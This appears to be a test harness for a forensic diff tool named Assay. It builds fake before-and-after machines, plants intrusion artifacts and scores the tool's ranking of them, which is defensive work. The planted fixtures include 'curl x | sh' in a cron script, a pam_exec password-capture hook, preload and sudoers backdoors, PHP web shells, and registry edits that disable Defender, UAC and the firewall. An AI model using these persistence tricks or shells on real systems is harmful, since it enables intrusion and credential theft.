@@ -1,0 +1,342 @@
+#!/usr/bin/env python3
+"""Makes machines before and after something happened, compares them with Assay, and says where the planted items stand.
+
+    ASSAY=./assay releng/scenarios/scenarios.py [NAME ...]
+
+Each scenario fills two folders and returns what it planted, as locations. The rest of what differs is noise that a benign machine makes.
+Printed is, for each, how many changes there are, how many planted items have a row and how many of these stand in the first 20, 50 and 150,
+how many startup rows there are, and how many rows above LOW are noise (HIGH ones in brackets).
+"""
+import json
+import os
+import random
+import shutil
+import subprocess
+import sys
+import tempfile
+from pathlib import Path
+
+ASSAY = os.environ.get("ASSAY", "./assay").split()
+OLD = 1_600_000_000
+NEW = 1_760_000_000
+CHANCE = random.Random(7)
+
+
+class Machine:
+    """A folder before and after, with exports of the registry beside it."""
+
+    def __init__(self, top, drive):
+        self.before, self.after, self.drive = top / "before", top / "after", drive
+        self.before.mkdir()
+        self.registry = {"before": [], "after": []}
+        self.planted = []
+
+    def old(self, path, content, mode=0o644, time=OLD):
+        write(self.before / path, content, mode, time)
+
+    def copy(self):
+        subprocess.run(["cp", "-a", str(self.before), str(self.after)], check=True)
+        self.registry["after"] = list(self.registry["before"])
+
+    def new(self, path, content, mode=0o644, time=NEW):
+        write(self.after / path, content, mode, time)
+
+    def plant(self, path, content, mode=0o644, time=NEW):
+        self.new(path, content, mode, time)
+        self.planted.append(self.location(path))
+
+    def location(self, path):
+        return "C:\\" + path.replace("/", "\\") if self.drive else "/" + path
+
+    def key(self, side, key, *values):
+        self.registry[side].append((key, values))
+
+    def plant_value(self, key, name, data):
+        self.key("after", key, (name, data))
+        short = key.replace("HKEY_LOCAL_MACHINE", "HKLM").replace("HKEY_CURRENT_USER", "HKCU")
+        self.planted.append(f"{short} [{name}]")
+
+
+def write(path, content, mode, time):
+    path.parent.mkdir(parents=True, exist_ok=True)
+    if path.is_symlink() or path.exists():
+        path.unlink()
+    path.write_bytes(content if isinstance(content, bytes) else content.encode())
+    path.chmod(mode)
+    os.utime(path, (time, time))
+
+
+def chance(size):
+    return CHANCE.randbytes(size)
+
+
+def elf(seed):
+    return b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(200) + seed.encode()
+
+
+def pe(seed):
+    return b"MZ" + bytes(58) + (128).to_bytes(4, "little") + bytes(64) + b"PE\0\0\x64\x86" + bytes(300) + seed.encode()
+
+
+def document(at):
+    kind = at % 4
+    body = ("page %d of a document about nothing in particular. " % at) * 60
+    return [b"PK\x03\x04\x14\0\0\0\x08\0" + chance(3000), b"%PDF-1.7\n" + body.encode(), b"\xff\xd8\xff\xe0\0\x10JFIF\0" + chance(3000),
+            body.encode()][kind], ["docx", "pdf", "jpg", "txt"][kind]
+
+
+# --- what machines are made of ------------------------------------------------------------------------------------------------------
+
+def linux(machine):
+    for at in range(300):
+        machine.old(f"usr/bin/tool{at}", elf(f"tool {at}"), 0o755)
+        machine.old(f"usr/lib/x86_64-linux-gnu/lib{at}.so.1", elf(f"lib {at}"))
+        machine.old(f"usr/share/perl/5.36/unicore/{at}.pl", f"return <<'END';\n{at}\nEND\n")
+    machine.old("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nann:x:1000:1000::/home/ann:/bin/bash\n")
+    machine.old("etc/shadow", "root:*:1:0:99999:7:::\nwww-data:*:1:0:99999:7:::\nann:$6$a$b:1:0:99999:7:::\n", 0o640)
+    machine.old("etc/group", "root:x:0:\nsudo:x:27:ann\nwww-data:x:33:\n")
+    machine.old("etc/hosts", "127.0.0.1 localhost\n")
+    machine.old("etc/ssh/sshd_config", "PermitRootLogin no\nPasswordAuthentication no\n")
+    machine.old("etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n")
+    machine.old("etc/pam.d/sshd", "@include common-auth\naccount required pam_nologin.so\n")
+    machine.old("etc/pam.d/common-auth", "auth required pam_unix.so\n")
+    machine.old("etc/rc.local", "#!/bin/sh\nexit 0\n", 0o755)
+    machine.old("etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n")
+    machine.old("lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/bin/tool1\n")
+    machine.old("home/ann/.bashrc", "alias ll='ls -l'\n")
+
+
+def linux_week(machine):
+    for at in range(700):
+        machine.new(f"var/log/app/{at}.log", "line\n" * (at % 50 + 1))
+        machine.new(f"var/cache/app/{at:04x}", chance(200))
+    for at in range(40):
+        machine.new(f"home/ann/notes/{at}.txt", f"note {at}")
+
+
+def windows(machine):
+    for at in range(300):
+        machine.old(f"Windows/System32/part{at}.dll", pe(f"part {at}"))
+        machine.old(f"Program Files/App/mod{at}.dll", pe(f"mod {at}"))
+    for name in ("svchost.exe", "cmd.exe", "explorer.exe", "sethc.exe", "userinit.exe"):
+        machine.old("Windows/System32/" + name, pe(name))
+    machine.old("Windows/System32/drivers/etc/hosts", "127.0.0.1 localhost\r\n")
+    cv = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion"
+    machine.key("before", r"HKEY_CURRENT_USER\Software\App", ("Version", "1"))
+    machine.key("before", cv + r"\Run", ("Driver", r'"C:\\Program Files\\App\\mod1.dll"'.strip('"')))
+    machine.key("before", cv + r"\Policies\System", ("EnableLUA", 1))
+    machine.key("before", r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\WinDefend", ("Start", 2))
+    machine.key("before", r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\Terminal Server", ("fDenyTSConnections", 1))
+    machine.key("before", r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon", ("Shell", "explorer.exe"),
+                ("Userinit", r"C:\Windows\System32\userinit.exe,"))
+
+
+def windows_week(machine):
+    for at in range(800):
+        machine.new(f"Users/ann/AppData/Local/Browser/Cache/f_{at:06x}", chance(300))
+        machine.new(f"Windows/Prefetch/P{at}.pf", chance(300))
+        machine.key("after", rf"HKEY_CURRENT_USER\Software\App\Recent\{at}", ("Used", at))
+    for at in range(60):
+        machine.new(f"Users/ann/Documents/report{at}.docx", document(at * 4)[0])
+
+
+# --- what happens to them -----------------------------------------------------------------------------------------------------------
+
+def clean_linux(machine):
+    linux(machine)
+    machine.copy()
+
+
+def linux_persistence(machine):
+    linux(machine)
+    machine.copy()
+    linux_week(machine)
+    plant = machine.plant
+    plant("etc/passwd", (machine.before / "etc/passwd").read_text() + "toor:x:0:0::/root:/bin/bash\n")
+    plant("etc/shadow", (machine.before / "etc/shadow").read_text().replace("www-data:*", "www-data:$6$x$y"), 0o640)
+    plant("etc/group", "root:x:0:\nsudo:x:27:ann,www-data\nwww-data:x:33:\n")
+    plant("etc/sudoers.d/backup", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440)
+    plant("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nza mallory\n", 0o600)
+    plant("etc/ssh/sshd_config", "PermitRootLogin yes\nPasswordAuthentication no\n")
+    plant("etc/hosts", "127.0.0.1 localhost\n10.6.6.6 deb.debian.org\n")
+    plant("etc/pam.d/sshd", "auth sufficient pam_exec.so expose_authtok /usr/share/.p\n@include common-auth\naccount required pam_nologin.so\n")
+    plant("usr/share/.p", "#!/bin/sh\ncat >> /tmp/.c\n", 0o755)
+    plant("etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsys.so.6\n")
+    plant("usr/lib/x86_64-linux-gnu/libsys.so.6", elf("preloaded"))
+    plant("etc/cron.d/sync", "* * * * * root /dev/shm/.x\n")
+    plant("dev/shm/.x", "#!/bin/sh\ncurl x | sh\n", 0o755)
+    plant("etc/systemd/system/sysd.service", "[Service]\nExecStart=/usr/bin/.sysd\n[Install]\nWantedBy=multi-user.target\n")
+    plant("usr/bin/.sysd", elf("implant"), 0o755)
+    plant("home/ann/.bashrc", "alias ll='ls -l'\n(/usr/bin/.sysd &)\n")
+    plant("usr/bin/tool7", elf("tool 7"), 0o4755, OLD)
+    plant("etc/rc.local", "#!/bin/sh\n/usr/bin/.sysd\nexit 0\n", 0o755)
+    plant("usr/bin/tool9", elf("tool X"), 0o755, OLD)
+    plant("etc/sysctl.d/99-x.conf", "kernel.core_pattern = |/usr/bin/.sysd %p\n")
+
+
+def windows_persistence(machine):
+    windows(machine)
+    machine.copy()
+    windows_week(machine)
+    plant, value = machine.plant, machine.plant_value
+    cv = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion"
+    nt = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion"
+    cs = r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet"
+    plant("Users/Public/svchost.exe", pe("implant"))
+    plant("Windows/Temp/holiday.jpg.exe", pe("implant"))
+    plant("ProgramData/invoice.pdf", pe("disguised"))
+    plant("Windows/System32/drivers/etc/hosts", "127.0.0.1 localhost\r\n0.0.0.0 update.microsoft.com\r\n")
+    plant("Windows/System32/sethc.exe", pe("cmd.exe"), 0o644, OLD)
+    plant("Users/ann/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.vbs", "CreateObject(\"WScript.Shell\")")
+    value(cv + r"\Run", "Updater", r"C:\Users\Public\svchost.exe")
+    value(cv + r"\RunOnce", "Once", r"C:\Windows\Temp\holiday.jpg.exe")
+    value(nt + r"\Winlogon", "Shell", r"explorer.exe, C:\Users\Public\svchost.exe")
+    value(nt + r"\Image File Execution Options\utilman.exe", "Debugger", r"C:\Windows\System32\cmd.exe")
+    value(cv + r"\Policies\System", "EnableLUA", 0)
+    value(cs + r"\Control\SecurityProviders\WDigest", "UseLogonCredential", 1)
+    value(cs + r"\Control\Lsa", "DisableRestrictedAdmin", 0)
+    value(cs + r"\Services\WinDefend", "Start", 4)
+    value(cs + r"\Control\Terminal Server", "fDenyTSConnections", 0)
+    value(r"HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender\Exclusions\Paths", r"C:\ProgramData", 0)
+    value(nt + r"\Winlogon\SpecialAccounts\UserList", "support", 0)
+    value(cs + r"\Services\SharedAccess\Parameters\FirewallPolicy\StandardProfile", "EnableFirewall", 0)
+    value(r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run", "Sync", r"wscript C:\Users\Public\s.js")
+    value(cs + r"\Services\Helper", "ImagePath", r"C:\ProgramData\helper.exe")
+
+
+def ransomware(machine, name, content, time):
+    windows(machine)
+    for at in range(2000):
+        body, extension = document(at)
+        machine.old(f"Users/ann/Documents/d{at % 40}/file{at}.{extension}", body)
+    machine.copy()
+    windows_week(machine)
+    for at in range(2000):
+        body, extension = document(at)
+        path = f"Users/ann/Documents/d{at % 40}/file{at}.{extension}"
+        if name(path) != path:
+            (machine.after / path).unlink()
+        machine.new(name(path), content(body), 0o644, time(at))
+    for at in range(40):
+        machine.new(f"Users/ann/Documents/d{at}/HOW_TO_DECRYPT.txt", "Pay.")
+    machine.planted.append("MASS")
+    machine.plant("Users/ann/AppData/Local/Temp/enc.exe", pe("encryptor"))
+    machine.plant_value(r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run", "enc",
+                        r"C:\Users\ann\AppData\Local\Temp\enc.exe")
+
+
+def ransomware_renamed(machine):
+    ransomware(machine, lambda path: path + ".locked", lambda body: chance(len(body)), lambda at: NEW + at // 10)
+
+
+def ransomware_times_kept(machine):
+    ransomware(machine, lambda path: path, lambda body: chance(len(body)), lambda at: OLD)
+
+
+def ransomware_times_new(machine):
+    ransomware(machine, lambda path: path, lambda body: chance(len(body)), lambda at: NEW + at // 10)
+
+
+def rootkit(machine):
+    linux(machine)
+    machine.copy()
+    linux_week(machine)
+    for at in range(12):
+        machine.plant(f"usr/bin/tool{at}", elf(f"tool {at}").replace(b"tool", b"t00l"), 0o755, OLD)
+
+
+def web_shell(machine):
+    linux(machine)
+    page = "<?php\n// part %d of a site\nfunction part%d($a) { return htmlspecialchars($_GET['a'] ?? $a); }\n"
+    for at in range(6000):
+        extension = ["php", "css", "js", "png"][at % 4]
+        body = page % (at, at) if extension == "php" else f"/* {at} */"
+        machine.old(f"var/www/site/wp-content/p{at % 60}/f{at}.{extension}", body)
+    machine.old("var/www/site/wp-content/themes/t/functions.php", page % (1, 1))
+    machine.copy()
+    linux_week(machine)
+    for at in range(0, 6000, 2):
+        extension = ["php", "css", "js", "png"][at % 4]
+        body = page % (at, at + 1) if extension == "php" else f"/* {at} new */"
+        machine.new(f"var/www/site/wp-content/p{at % 60}/f{at}.{extension}", body)
+    for at in range(500):
+        machine.new(f"var/www/site/wp-content/uploads/2026/{at}.jpg", document(at * 4 + 2)[0])
+    machine.plant("var/www/site/wp-content/uploads/2026/img.php", "<?php @eval($_POST['x']);")
+    machine.plant("var/www/site/wp-content/themes/t/functions.php", page % (1, 1) + "if(isset($_COOKIE['k'])) system($_COOKIE['k']);\n")
+    machine.plant("var/www/site/wp-content/uploads/2026/cat.gif", "GIF89a;<?php eval(base64_decode($_REQUEST['q']));")
+    machine.plant("var/www/site/.htaccess", "AddType application/x-httpd-php .gif\n")
+
+
+SCENARIOS = {
+    "clean machine": (clean_linux, False), "Linux persistence": (linux_persistence, False),
+    "Windows persistence": (windows_persistence, True), "ransomware, renamed": (ransomware_renamed, True),
+    "ransomware in place, times kept": (ransomware_times_kept, True), "ransomware in place, times new": (ransomware_times_new, True),
+    "rootkit: size and time kept": (rootkit, False), "web shell in a site": (web_shell, False)}
+
+
+# --- how they are judged ------------------------------------------------------------------------------------------------------------
+
+def export(keys):
+    lines = ["REGEDIT4", ""]
+    for key, values in keys:
+        lines.append(f"[{key}]")
+        for name, data in values:
+            quoted = '"%s"' % name.replace("\\", "\\\\")
+            lines.append(f"{quoted}=dword:{data:08x}" if isinstance(data, int) else f'{quoted}="%s"' % data.replace("\\", "\\\\"))
+        lines.append("")
+    return "\r\n".join(lines)
+
+
+def assay(case, *arguments):
+    done = subprocess.run([*ASSAY, *arguments, "-c", str(case)], capture_output=True, text=True)
+    if done.returncode not in (0, 1, 2):
+        sys.exit(done.stderr)
+    return done.stdout
+
+
+def judge(name, build, drive, top):
+    machine = Machine(top, drive)
+    build(machine)
+    case = top / "case"
+    subprocess.run([*ASSAY, "case", "new", str(case)], check=True, capture_output=True)
+    for side, role in (("before", "baseline"), ("after", "suspect")):
+        more = []
+        if drive:
+            (top / f"{side}.reg").write_text(export(machine.registry[side]))
+            more = ["--reg", str(top / f"{side}.reg")]
+        assay(case, "capture", "--host", "PC", "--role", role, "--tree", ("C=" if drive else "") + str(top / side), *more)
+    changes = json.loads(assay(case, "compare", "1", "2", "-f", "json"))["changes"]
+    startup = json.loads(assay(case, "startup", "-f", "json"))["startup"]
+    rows = [(row["severity"], "MASS" if "mass-change" in row["findings"] else row["location"].removesuffix(" "), row) for row in changes]
+    planted = set(machine.planted)
+    ranks = {}
+    for at, (_, location, _) in enumerate(rows):
+        ranks.setdefault(location, at + 1)
+    found = sorted(ranks[one] for one in planted if one in ranks)
+    noise = [row for row in rows if row[0] in ("HIGH", "MEDIUM") and row[1] not in planted]
+    first = ["%d/%d" % (len([rank for rank in found if rank <= limit]), min(limit, len(planted))) for limit in (20, 50, 150)]
+    high = len([row for row in noise if row[0] == "HIGH"])
+    print(f"| {name} | {len(changes):,} | {len(found)}/{len(planted)} | {' | '.join(first)} | {len(startup)} | {len(noise)} ({high}) |", flush=True)
+    for location in sorted(planted - set(ranks)):
+        print(f"    not found: {location}")
+    for location in sorted(planted & set(ranks)):
+        if ranks[location] > 20:
+            print(f"    rank {ranks[location]}: {location}")
+    for severity, location, row in noise[:int(os.environ.get("NOISE", "0"))]:
+        print(f"    noise: {severity} {location} {row['findings']}")
+
+
+def main():
+    chosen = [name for name in SCENARIOS if not sys.argv[1:] or any(word in name for word in sys.argv[1:])]
+    print("| scenario | changes | found | first 20 | first 50 | 150 | startup | noise above LOW (HIGH) |")
+    print("|---|---|---|---|---|---|---|---|")
+    for name in chosen:
+        top = Path(tempfile.mkdtemp(prefix="assay-scenario-"))
+        try:
+            judge(name, *SCENARIOS[name], top)
+        finally:
+            shutil.rmtree(top)
+
+
+if __name__ == "__main__":
+    main()
